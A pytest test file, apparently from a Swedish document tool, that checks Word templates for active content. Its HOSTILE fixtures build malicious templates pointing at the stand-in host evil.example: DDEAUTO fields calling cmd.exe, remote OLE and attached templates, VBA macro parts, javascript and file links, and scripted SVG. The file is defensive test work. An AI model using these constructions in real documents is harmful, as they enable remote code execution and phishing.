"""Word templates from strangers: nothing in them that runs, fetches or opens anything reaches a document, and it is reported."""

from __future__ import annotations

import re
from pathlib import Path
from xml.sax.saxutils import quoteattr

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from iopdocs.authoring.layer_check import check_layer
from iopdocs.authoring.word_template_report import report_on
from iopdocs.writers.docx.field_codes import ALLOWED_FIELDS, is_allowed
from iopdocs.writers.docx.reference_document import lent_template
from tests.helpers import docx_checks
from tests.helpers.command import iopdocs as run
from tests.helpers.document_samples import sample
from tests.helpers.word_templates import OURS, ROOT, TEMPLATES, packed, parts

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EXEMPELSTAD = ROOT / "examples" / "lager" / "exempelstad" / "mall.docx"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082"
)
EVIL = "evil.example"


def rels(*found: tuple[str, str, str, bool]) -> bytes:
    rows = "".join(
        f'<Relationship Id="{i}" Type="{t if "://" in t else TYPES + t}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if out else ""}/>'
        for i, t, target, out in found
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    ).encode()


def template(
    *,
    header: str = "",
    header_rels: tuple[tuple[str, str, str, bool], ...] = (),
    main_rels: tuple[tuple[str, str, str, bool], ...] = (),
    package_rels: tuple[tuple[str, str, str, bool], ...] = (),
    part: str = "",
    part_xml: tuple[str, str] = ("", ""),
    part_rels: tuple[tuple[str, str, str, bool], ...] = (),
    extra: dict[str, tuple[str, bytes]] | None = None,
) -> bytes:
    """Return our template with things put in its first header, its main part, its package, or the part *part*."""
    found = parts(OURS.read_bytes())
    if header:
        xml = found["word/header1.xml"].decode()
        names = (
            'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        )
        xml = xml.replace("<w:hdr ", f"<w:hdr {names}", 1).replace("</w:hdr>", f"{header}</w:hdr>")
        found["word/header1.xml"] = xml.encode()
    if header_rels:
        found["word/_rels/header1.xml.rels"] = rels(*header_rels)
    if main_rels:
        text = found["word/_rels/document.xml.rels"].decode()
        more = re.search(r"<Relationships[^>]*>(.*)</Relationships>", rels(*main_rels).decode())
        assert more is not None
        found["word/_rels/document.xml.rels"] = text.replace("</Relationships>", f"{more[1]}</Relationships>").encode()
    if package_rels:
        text = found["_rels/.rels"].decode()
        more = re.search(r"<Relationships[^>]*>(.*)</Relationships>", rels(*package_rels).decode())
        assert more is not None
        found["_rels/.rels"] = text.replace("</Relationships>", f"{more[1]}</Relationships>").encode()
    if part_xml[0]:
        before = found[part].decode()
        assert part_xml[0] in before
        found[part] = before.replace(*part_xml, 1).encode()
    if part_rels:
        folder, _slash, file = part.rpartition("/")
        found[f"{folder}/_rels/{file}.rels"] = rels(*part_rels)
    types = found["[Content_Types].xml"].decode()
    for name, (kind, data) in (extra or {}).items():
        found[name] = data
        types = types.replace("</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')
    found["[Content_Types].xml"] = types.encode()
    return packed(found)


def picture(attribute: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="77" name="x" descr="x"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="0" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f"<a:blip {attribute}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def field_of(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>resultat</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


OLE = "application/vnd.openxmlformats-officedocument.oleObject"
SETTINGS = "word/settings.xml"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
HOSTILE: dict[str, bytes] = {
    "picture over http": template(header=picture('r:link="x"'), header_rels=(("x", "image", f"http://{EVIL}/a.png", True),)),
    "picture over UNC": template(header=picture('r:link="x"'), header_rels=(("x", "image", f"file:////{EVIL}/a.png", True),)),
    "picture over file": template(header=picture('r:link="x"'), header_rels=(("x", "image", "file:///etc/evil.example.png", True),)),
    "picture by r:embed of an external target": template(
        header=picture('r:embed="x"'), header_rels=(("x", "image", f"http://{EVIL}/a.png", True),)
    ),
    "a link taken for a picture": template(
        header=picture('r:link="x"'), header_rels=(("x", "hyperlink", f"https://{EVIL}/a.png", True),)
    ),
    "VML picture by relationship": template(
        header='<w:p><w:r><w:pict><v:shape id="s"><v:imagedata r:id="x"/></v:shape></w:pict></w:r></w:p>',
        header_rels=(("x", "image", f"http://{EVIL}/a.png", True),),
    ),
    "VML picture by src": template(
        header=f'<w:p><w:r><w:pict><v:shape id="s"><v:imagedata src="http://{EVIL}/a.png"/></v:shape></w:pict></w:r></w:p>'
    ),
    "VML shape that is a link": template(
        header=f'<w:p><w:r><w:pict><v:shape id="s" href="file://{EVIL}/a.exe"><v:fill/></v:shape></w:pict></w:r></w:p>'
    ),
    "OLE linked": template(
        header='<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="s" UpdateMode="Always" r:id="x"/></w:object></w:r></w:p>',
        header_rels=(("x", "oleObject", f"mhtml:http://{EVIL}/a.html!x-usc:http://{EVIL}/a.html", True),),
    ),
    "OLE embedded": template(
        header='<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s" r:id="x"/></w:object></w:r></w:p>',
        header_rels=(("x", "oleObject", "embeddings/evil.example.bin", False),),
        extra={"word/embeddings/evil.example.bin": (OLE, b"\xd0\xcf\x11\xe0evil.example")},
    ),
    "ActiveX": template(
        header='<w:p><w:r><w:object><w:control r:id="x" w:name="evil.example" w:shapeid="s"/></w:object></w:r></w:p>',
        header_rels=(("x", "control", "activeX/evil.example.xml", False),),
        extra={"word/activeX/evil.example.xml": ("application/vnd.ms-office.activeX+xml", b"<ax/>")},
    ),
    "altChunk in a header": template(
        header='<w:altChunk r:id="x"/>',
        header_rels=(("x", "aFChunk", "evil.example.html", False),),
        extra={"word/evil.example.html": ("text/html", b"<script>evil.example</script>")},
    ),
    "subDocument": template(
        header='<w:p><w:subDoc r:id="x"/></w:p>', header_rels=(("x", "subDocument", f"file://{EVIL}/a.docx", True),)
    ),
    "DDEAUTO": template(header=field_of(f" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;{EVIL}&quot; ")),
    "DDE split over runs": template(header=field_of(" D", "DE", f"AUTO excel &quot;{EVIL}&quot; ")),
    "DDE in a simple field": template(
        header=f'<w:p><w:fldSimple w:instr=" dde cmd &quot;{EVIL}&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    ),
    "a field named by another": template(
        header='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>= 1</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>DDEAUTO {EVIL}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "a field without end": template(
        header=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{EVIL}"</w:instrText></w:r></w:p>'
    ),
    "INCLUDEPICTURE": template(header=field_of(f' INCLUDEPICTURE "http://{EVIL}/a.png" \\d ')),
    "INCLUDETEXT": template(header=field_of(f' INCLUDETEXT "file://{EVIL}/a.docx" ')),
    "LINK": template(header=field_of(f" LINK Excel.Sheet file://{EVIL}/a.xlsx a1 ")),
    "MACROBUTTON": template(header=field_of(" MACROBUTTON evil.example Klicka ")),
    "HYPERLINK field with a script": template(header=field_of(' HYPERLINK "javascript:evil.example" ')),
    "HYPERLINK field to a share": template(header=field_of(" HYPERLINK \\\\\\\\evil.example\\\\a ")),
    "javascript link": template(
        header='<w:p><w:hyperlink r:id="x"><w:r><w:t>länk</w:t></w:r></w:hyperlink></w:p>',
        header_rels=(("x", "hyperlink", "javascript:alert('evil.example')", True),),
    ),
    "file link": template(
        header='<w:p><w:hyperlink r:id="x"><w:r><w:t>länk</w:t></w:r></w:hyperlink></w:p>',
        header_rels=(("x", "hyperlink", "file:///evil.example/a", True),),
    ),
    "hover action": template(
        header=picture("").replace('descr="x"/>', 'descr="x"><a:hlinkClick r:id="" action="ppaction://program?evil.example"/></wp:docPr>'),
    ),
    "macros of the main part": template(
        main_rels=(("m", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),),
        extra={"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"evil.example")},
    ),
    "macros of a header": template(
        header="<w:p/>",
        header_rels=(("m", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),),
        extra={"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"evil.example")},
    ),
    "macros of settings": template(
        part=SETTINGS,
        part_rels=(("m", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),),
        extra={"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"evil.example")},
    ),
    "macros under another type": template(
        main_rels=(("m", "vbaproject", "vbaProject.bin", False),),
        extra={"word/vbaProject.bin": ("application/octet-stream", b"evil.example")},
    ),
    "macros as a header": template(
        main_rels=(("m", "header", "vbaProject.bin", False),),
        extra={"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"evil.example")},
    ),
    "an unknown part": template(
        main_rels=(("m", f"http://{EVIL}/t", "evil.example.exe", False),),
        extra={"word/evil.example.exe": ("application/x-msdownload", b"MZevil.example")},
    ),
    "a program as a picture": template(
        header=picture('r:embed="x"'),
        header_rels=(("x", "image", "media/evil.example.png", False),),
        extra={"word/media/evil.example.png": ("image/png", b"MZevil.example")},
    ),
    "an SVG picture": template(
        header=picture('r:embed="x"'),
        header_rels=(("x", "image", "media/evil.example.svg", False),),
        extra={"word/media/evil.example.svg": ("image/svg+xml", b"<svg xmlns='x'><script>evil.example</script></svg>")},
    ),
    "attached template": template(
        part=SETTINGS,
        part_xml=("<w:zoom", '<w:attachedTemplate r:id="t" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:zoom'),
        part_rels=(("t", "attachedTemplate", f"http://{EVIL}/t.dotm", True),),
    ),
    "XSLT when saved": template(
        part=SETTINGS,
        part_xml=("<w:zoom", f'<w:saveThroughXslt w:solutionID="http://{EVIL}"/><w:zoom'),
    ),
    "web frames": template(
        main_rels=(("web", "webSettings", "webSettings.xml", False),),
        extra={
            "word/webSettings.xml": (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml",
                f'<w:webSettings {W} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:frameset><w:frame><w:sourceFileName r:id="f"/></w:frame></w:frameset></w:webSettings>'.encode(),
            ),
            "word/_rels/webSettings.xml.rels": ("", rels(("f", "frame", f"http://{EVIL}/a.html", True))),
        },
    ),
    "a picture as bullet from elsewhere": template(
        part="word/numbering.xml",
        part_xml=(
            "<w:abstractNum ",
            '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="b" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></v:shape></w:pict></w:numPicBullet><w:abstractNum ',
        ),
        part_rels=(("b", "image", f"http://{EVIL}/b.png", True),),
    ),
    "a theme with a picture from elsewhere": template(
        part="word/theme/theme1.xml",
        part_rels=(("b", "image", f"http://{EVIL}/b.png", True),),
    ),
    "a font from elsewhere": template(
        part="word/fontTable.xml",
        part_rels=(("b", "font", f"http://{EVIL}/b.odttf", True),),
    ),
    "a header from elsewhere": template(main_rels=(("h", "header", f"file:///{EVIL}", True),)),
    "a first header from elsewhere": template(
        part="word/_rels/document.xml.rels",
        part_xml=('Target="/word/header1.xml"', f'Target="http://{EVIL}/h.xml" TargetMode="External"'),
    ),
    "an id that writes a relationship of its own": template(
        part="word/_rels/document.xml.rels",
        part_xml=(
            'Id="styles"',
            'Id="s&quot; Type=&quot;' + TYPES + f'attachedTemplate&quot; Target=&quot;http://{EVIL}/t.dotm&quot; '
            'TargetMode=&quot;External&quot;/&gt;&lt;Relationship Id=&quot;styles"',
        ),
    ),
    "buttons": template(
        package_rels=(("u", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/evil.example.xml", False),),
        extra={"customUI/evil.example.xml": ("application/xml", b"<customUI/>")},
    ),
    "macros when a form field is entered": template(
        header='<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar></w:r>'
        '<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}  # fmt: skip
ALLOWED_TARGET = re.compile(r"(?:https?|mailto|tel):", re.IGNORECASE)


def made_with(data: bytes) -> bytes:
    return attrs.evolve(sample(), reference=data).to_docx()


def active(data: bytes) -> list[str]:
    """Return what in the file *data* could run, fetch or open something, by a list of its own."""
    found = [name for name, part in parts(data).items() if b"evil.example" in part or "evil.example" in name]
    for name, part in parts(data).items():
        if name.endswith(".rels"):
            for rel in etree.fromstring(part):
                kind = str(rel.get("Type")).rpartition("/")[2]
                external = rel.get("TargetMode") == "External"
                if external and not (kind == "hyperlink" and ALLOWED_TARGET.match(str(rel.get("Target")))):
                    found.append(f"{name}: {kind} {rel.get('Target')}")
        elif name.endswith(".xml"):
            tags = {etree.QName(element).localname for element in etree.fromstring(part).iter(etree.Element)}
            found += [
                f"{name}: {tag}" for tag in tags & {"object", "OLEObject", "control", "altChunk", "subDoc", "frameset"}
            ]
        elif not name.endswith((".png", ".jpeg", ".jpg", ".odttf", ".rels")):
            found.append(name)
    return found


@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_active_in_a_template_reaches_a_document(kind: str) -> None:
    data = made_with(HOSTILE[kind])
    assert active(data) == []
    assert docx_checks.faults(data) == []


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_is_active_in_a_template_is_reported_and_makes_it_unusable(kind: str, tmp_path: Path) -> None:
    report = report_on(HOSTILE[kind], "mall.docx")
    assert not report.usable
    file = tmp_path / "mall.docx"
    file.write_bytes(HOSTILE[kind])
    outcome = run("styles", "check", str(file))
    assert outcome.code == 1
    assert "Mallen innehåller" in outcome.out + outcome.err
    assert "DDE" not in outcome.out.partition("Sidhuvud och sidfot")[2]


@pytest.mark.parametrize("kind", ["OLE linked", "DDEAUTO", "macros of a header", "a first header from elsewhere"])
def test_check_of_a_layer_names_what_its_template_does_not_lend(kind: str, tmp_path: Path) -> None:
    (tmp_path / "lager.yaml").write_text("namn: prov\n", encoding="utf-8")
    (tmp_path / "mall.docx").write_bytes(HOSTILE[kind])
    outcome = run("clauses", "check", str(tmp_path), "--no-config")
    assert outcome.code == 1
    assert "Mallen innehåller" in outcome.out
    assert "A111" in {finding.code for finding in check_layer([tmp_path], rendered=False).found}


@pytest.mark.parametrize("file", [OURS, EXEMPELSTAD, *TEMPLATES], ids=lambda file: file.parent.name + file.stem)
def test_an_ordinary_template_loses_nothing(file: Path) -> None:
    lent = lent_template(file.read_bytes())
    assert lent.refused == ()
    before, after = parts(file.read_bytes()), parts(lent.data)
    assert {
        name for name in before if name.startswith(("word/header", "word/footer", "word/media", "word/theme"))
    } <= set(after)


def test_ordinary_links_pictures_and_page_numbers_stay() -> None:
    data = template(
        header=picture('r:embed="p"')
        + '<w:p><w:hyperlink r:id="l"><w:r><w:t>kommunen</w:t></w:r></w:hyperlink></w:p>'
        + field_of(" PAGE ")
        + field_of(" STYLEREF ", '"Rubrik 1" ')
        + field_of(' HYPERLINK "https://exempelstad.se" \\o "Till kommunen" '),
        header_rels=(("p", "image", "media/logo.png", False), ("l", "hyperlink", "https://exempelstad.se", True)),
        extra={"word/media/logo.png": ("image/png", PNG)},
    )
    made = parts(made_with(data))
    header = next(
        part.decode() for name, part in made.items() if name.startswith("word/header") and b"kommunen" in part
    )
    assert "STYLEREF" in header
    assert "PAGE" in header
    assert "HYPERLINK" in header
    assert made["word/media/logo.png"] == PNG
    assert b"https://exempelstad.se" in made["word/_rels/header1.xml.rels"]
    assert report_on(data, "mall.docx").usable


def test_the_result_of_a_refused_field_stays_as_text() -> None:
    made = parts(made_with(HOSTILE["INCLUDETEXT"]))
    assert "resultat" in made["word/header1.xml"].decode()


@given(
    st.lists(
        st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=12), min_size=1, max_size=6
    )
)
def test_an_instruction_is_read_as_word_puts_it_together(pieces: list[str]) -> None:
    code = "".join(pieces)
    name = code.strip().split(maxsplit=1)[0].upper() if code.strip() else ""
    if is_allowed(code):
        assert name in ALLOWED_FIELDS or name.startswith("=")


@given(
    st.sampled_from(["javascript", "file", "vbscript", "data", "mhtml", "ms-word", "ftp", "\\\\"]), st.text(max_size=20)
)
def test_no_other_scheme_is_a_link(scheme: str, rest: str) -> None:
    assert not is_allowed(f'HYPERLINK "{scheme}:{rest}"'.replace("\\\\:", "\\\\\\\\"))


def test_style_id_is_never_structure() -> None:
    identifier = 'Rubrik"/></w:pPr><w:fldSimple w:instr="DDEAUTO x"/><w:pPr><w:pStyle w:val="1'
    data = template(part="word/styles.xml", part_xml=('w:styleId="Heading1"', f"w:styleId={quoteattr(identifier)}"))
    document = etree.fromstring(parts(made_with(data))["word/document.xml"])
    assert next(document.iter("{*}fldSimple"), None) is None
    used = {str(style.get(docx_checks.w("val"))) for style in document.iter(docx_checks.w("pStyle"))}
    assert identifier in used
